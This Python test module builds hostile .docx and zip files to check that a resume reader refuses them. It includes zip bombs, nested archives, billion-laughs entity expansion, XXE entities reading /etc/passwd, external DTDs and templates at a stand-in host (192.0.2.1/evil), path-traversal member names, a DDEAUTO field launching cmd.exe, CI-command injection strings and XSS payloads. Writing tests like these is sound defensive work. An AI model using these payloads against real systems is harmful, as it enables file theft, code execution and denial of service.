"""Zip files and Word documents that want to fill the memory or the disk, or to reach out of themselves."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

from tests.hostile.gets import READ
from tests.read.test_docx_hostile import MAIN, replaced, rewritten, sound, swollen
from tests.read.word import para

ROWS = "<w:tbl><w:tr><w:tc>"
ENDS = "</w:tc></w:tr></w:tbl><w:p/>"
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
LAUGHS = f'<!DOCTYPE w [<!ENTITY l0 "ha">{LAUGHS}]>'


def body(xml: str) -> bytes:
    """The sound resume with more XML at its end, not packed: its size alone gives it away."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(sound())) as old, zipfile.ZipFile(out, "w") as new:
        for name in old.namelist():
            data = old.read(name)
            new.writestr(name, data.replace(b"<w:sectPr", xml.encode() + b"<w:sectPr") if name == MAIN else data)
    return out.getvalue()


def hidden_declaration(declared: str, used: str) -> bytes:
    """A document type where a search for it doesn't find it, for the XML is UTF-16."""

    def change(name: str, data: bytes) -> tuple[str, bytes]:
        if name != MAIN:
            return name, data
        text = data.decode("utf-8").partition("?>")[2].strip()
        text = declared + text.replace("Welder", f"Welder {used}")
        return name, ('<?xml version="1.0" encoding="UTF-16"?>' + text).encode("utf-16")

    return rewritten(change)


def overlapping(members: int, kernel: int) -> bytes:
    """Entries that all point at the same packed data: a small file that says it holds much."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    plain = b"<w:p/>" * (kernel // 6)
    data = packer.compress(plain) + packer.flush()
    crc = zlib.crc32(plain)
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, crc, len(data), len(plain), 1, 0) + b"a" + data
    contents = b""
    for n in range(members):
        name = b"word/document.xml" if not n else b"word/%d.xml" % n
        contents += struct.pack(
            "<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0, crc, len(data), len(plain), len(name),
            0, 0, 0, 0, 0, 0,
        ) + name  # fmt: skip
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, members, members, len(contents), len(local), 0)
    return local + contents + end


def lying() -> bytes:
    """The text says that it is small, and unpacks to 100 MB."""
    data = bytearray(replaced(MAIN, b"<w:sectPr", b"<!--" + b" " * 100_000_000 + b"--><w:sectPr"))
    at = data.rindex(MAIN.encode()) - 46
    data[at + 24 : at + 28] = (4000).to_bytes(4, "little")
    return bytes(data)


def matryoshka(depth: int) -> bytes:
    """A zip in a zip in a zip, each with ten of them: 42.zip and its like."""
    inner = b"\0" * 4_000_000
    for level in range(depth):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
            for n in range(10 if level else 1):
                archive.writestr(f"{n}.zip", inner)
        inner = out.getvalue()
    return inner


def crowded(members: int) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for n in range(members):
            archive.writestr(f"word/{n}.xml", b"")
    return out.getvalue()


def uttered(text: str) -> bytes:
    """The sound resume with this said in it."""
    return body(para("Experience") + para("Welder, Acme Bridges, May 2019 - Present") + para(text))


def outward() -> bytes:
    """Relationships to files of the machine and of others', and members whose names climb out."""
    rels = (
        '<Relationship Id="rId90" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}"'
        ' Target="{}" TargetMode="External"/>'
    )
    reaching = "".join(
        rels.format(kind, target).replace("rId90", f"rId9{n}")
        for n, (kind, target) in enumerate(
            [
                ("attachedTemplate", "http://192.0.2.1/evil.dotm"),
                ("image", "file:///etc/passwd"),
                ("oleObject", "\\\\192.0.2.1\\share\\x"),
                ("header", "file:///etc/passwd"),
                ("frame", "http://192.0.2.1/"),
            ]
        )
    )

    def change(name: str, data: bytes) -> tuple[str, bytes]:
        return name, data.replace(b"</Relationships>", reaching.encode() + b"</Relationships>")

    return rewritten(
        change, **{"../../../../tmp/owned": b"x", "/etc/owned": b"x", "C:\\owned": b"x", "..\\owned": b"x"}
    )


def headers(number: int) -> bytes:
    """One part, related to as often as that."""
    rel = (
        '<Relationship Id="rIdX{}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/header"'
        ' Target="document.xml"/>'
    )
    many = "".join(rel.format(n) for n in range(number)).encode()
    return replaced("word/_rels/document.xml.rels", b"</Relationships>", many + b"</Relationships>")


PACKAGES: dict[str, tuple[Callable[[], bytes], str]] = {
    "a zip bomb": (lambda: rewritten(lambda *file: file, bomb=b"\0" * 150_000_000), "unpacks to a multiple"),
    "a zip in a zip in a zip": (lambda: matryoshka(5), "another zip archive"),
    "1,000 entries of the same bytes": (lambda: overlapping(1_000, 1_000_000), "MB allowed"),
    "100 entries of the same bytes": (lambda: overlapping(100, 900_000), "damaged"),
    "20,000 entries": (lambda: crowded(20_000), "more than 10,000 files"),
    "9,000 entries": (lambda: crowded(9_000), "damaged"),
    "text that lies about its size": (lying, "damaged"),
    "text that says it is 3 GB": (swollen, "MB allowed"),
    "entities that multiply": (
        lambda: replaced(MAIN, b"<w:document", LAUGHS.encode() + b"<w:document"),
        "XML entities",
    ),
    "entities that multiply, in UTF-16": (lambda: hidden_declaration(LAUGHS, "&l9;"), "damaged"),
    "an entity that is a file, in UTF-16": (
        lambda: hidden_declaration('<!DOCTYPE w [<!ENTITY s SYSTEM "file:///etc/passwd">]>', "&s;"),
        READ,
    ),
    "a document type that is elsewhere, in UTF-16": (
        lambda: hidden_declaration('<!DOCTYPE w SYSTEM "http://192.0.2.1/evil.dtd">', READ),
        READ,
    ),
    "links to files of the machine, names that climb": (outward, READ),
    "a field that runs a program": (
        lambda: body(
            '<w:p><w:fldSimple w:instr="DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;"/></w:p>'
        ),
        READ,
    ),
    "macros": (lambda: rewritten(lambda *file: file, **{"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" * 100}), READ),
    "one part 20,000 times": (lambda: headers(20_000), READ),
    "tables 20 deep": (lambda: body(ROWS * 20 + "<w:p/>" + ENDS * 20), READ),
    "tables 500 deep": (lambda: body(ROWS * 500 + "<w:p/>" + ENDS * 500), "damaged"),
    "text boxes 60 deep": (
        lambda: body(
            "<w:p><w:r><w:pict><v:shape xmlns:v='urn:schemas-microsoft-com:vml'><v:textbox><w:txbxContent>" * 40
            + "<w:p/>"
            + "</w:txbxContent></v:textbox></v:shape></w:pict></w:r></w:p>" * 40
        ),
        READ,
    ),
    "a table of 40,000 cells": (
        lambda: body("<w:tbl>" + ("<w:tr>" + "<w:tc><w:p/></w:tc>" * 100 + "</w:tr>") * 400 + "</w:tbl><w:p/>"),
        READ,
    ),
    "30,000 paragraphs": (lambda: body(para("Welded a bridge") * 30_000), "more text"),
    "50,000 runs in a paragraph": (lambda: body(f"<w:p>{'<w:r><w:t>x </w:t></w:r>' * 50_000}</w:p>"), "a line of"),
    "a word of 5,000,000 letters": (lambda: uttered("x" * 5_000_000), "more text"),
    "1,000,000 attributes": (
        lambda: body("<w:p " + " ".join(f'w:a{n}="1"' for n in range(300_000)) + "/>"),
        READ,
    ),
    "a list with a billionth level": (
        lambda: body(para("x", '<w:numPr><w:ilvl w:val="999999999"/><w:numId w:val="999999999"/></w:numPr>')),
        READ,
    ),
    "terminal codes, marks that turn text round": (
        lambda: uttered("Welded &#x202E;segdirb&#x202C; &#x9b;31m and &#x2066;more&#x2069;\u200b\ufeff"),
        READ,
    ),
    "commands to a CI system": (lambda: uttered("::error::owned and ##vso[task.setvariable]x ::set-output::y"), READ),
    "HTML": (lambda: uttered("&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;"), READ),
}
"""By what it is: the file, and words of the sentence that refuses it, or how it is read."""
